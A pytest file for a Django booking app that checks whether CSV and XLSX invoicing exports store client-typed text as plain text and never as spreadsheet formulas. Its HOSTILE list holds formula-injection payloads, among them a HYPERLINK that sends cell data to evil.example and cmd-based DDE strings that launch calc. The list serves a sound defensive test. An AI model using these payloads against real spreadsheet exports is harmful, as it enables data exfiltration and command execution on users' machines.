"""Formula injection: what a client typed reaches the accountant's spreadsheet as text, never as a
formula, in CSV and XLSX alike (core.spreadsheet, used by every export)."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from core.spreadsheet import csv_bytes, csv_text, sheet_append
from core.time import HELSINKI
from tests.factories import BookingFactory, bookable

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_would_be_a_formula_is_prefixed_with_a_quote(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Maija Meikäläinen", "", "95,00", "-12,50", "14:00", "1.3.2027", "a=b"])
def test_plain_text_numbers_and_negative_amounts_are_left_as_they_are(text):
    assert csv_text(text) == text


def test_csv_bytes_escapes_every_cell_and_keeps_excels_format():
    content = csv_bytes([["Name", "Sum"], [HOSTILE[0], "-12,50"]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Name", "Sum"], ["'" + HOSTILE[0], "-12,50"]]


def test_an_xlsx_string_is_a_string_cell_never_a_formula():
    workbook = openpyxl.Workbook()
    sheet_append(workbook.active, [*HOSTILE, Decimal("95.00"), dt.date(2027, 3, 1)])
    out = io.BytesIO()
    workbook.save(out)
    xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    row = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    assert list(row[: len(HOSTILE)]) == [
        text.replace("\r", "\n") if text[0] == "\r" else text for text in HOSTILE
    ]
    assert row[len(HOSTILE)] == 95 and row[-1] == dt.datetime(2027, 3, 1)


@pytest.fixture
def hostile_booking(db):
    _practitioner, hour = bookable(price=Decimal("95.00"), vat_rate=Decimal("25.5"))
    now = dt.datetime(2027, 3, 1, 8, 0, tzinfo=dt.UTC)
    return BookingFactory(
        session_type=hour,
        start=dt.datetime(2027, 3, 3, 10, tzinfo=HELSINKI).astimezone(dt.UTC),
        client_name=HOSTILE[0],
        email="m@example.fi",
        online=True,
        now=now,
    )


def _download(client, kind):
    response = client.get(
        reverse("admin:workspace_export"),
        {"first_day": "2027-03-01", "last_day": "2027-03-31", "format": kind},
    )
    assert response.status_code == 200
    return response.content


def test_the_invoicing_export_writes_a_hostile_name_as_text(admin_client, hostile_booking):
    rows = list(csv.reader(io.StringIO(_download(admin_client, "csv").decode("utf-8-sig")), delimiter=";"))
    assert ["'" + HOSTILE[0]] == [cell for cell in rows[1] if HOSTILE[0] in cell]

    content = _download(admin_client, "xlsx")
    sheets = zipfile.ZipFile(io.BytesIO(content))
    assert not any("<f>" in sheets.read(name).decode() for name in sheets.namelist() if "worksheets" in name)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert HOSTILE[0] in [cell for row in sheet.iter_rows(values_only=True) for cell in row]
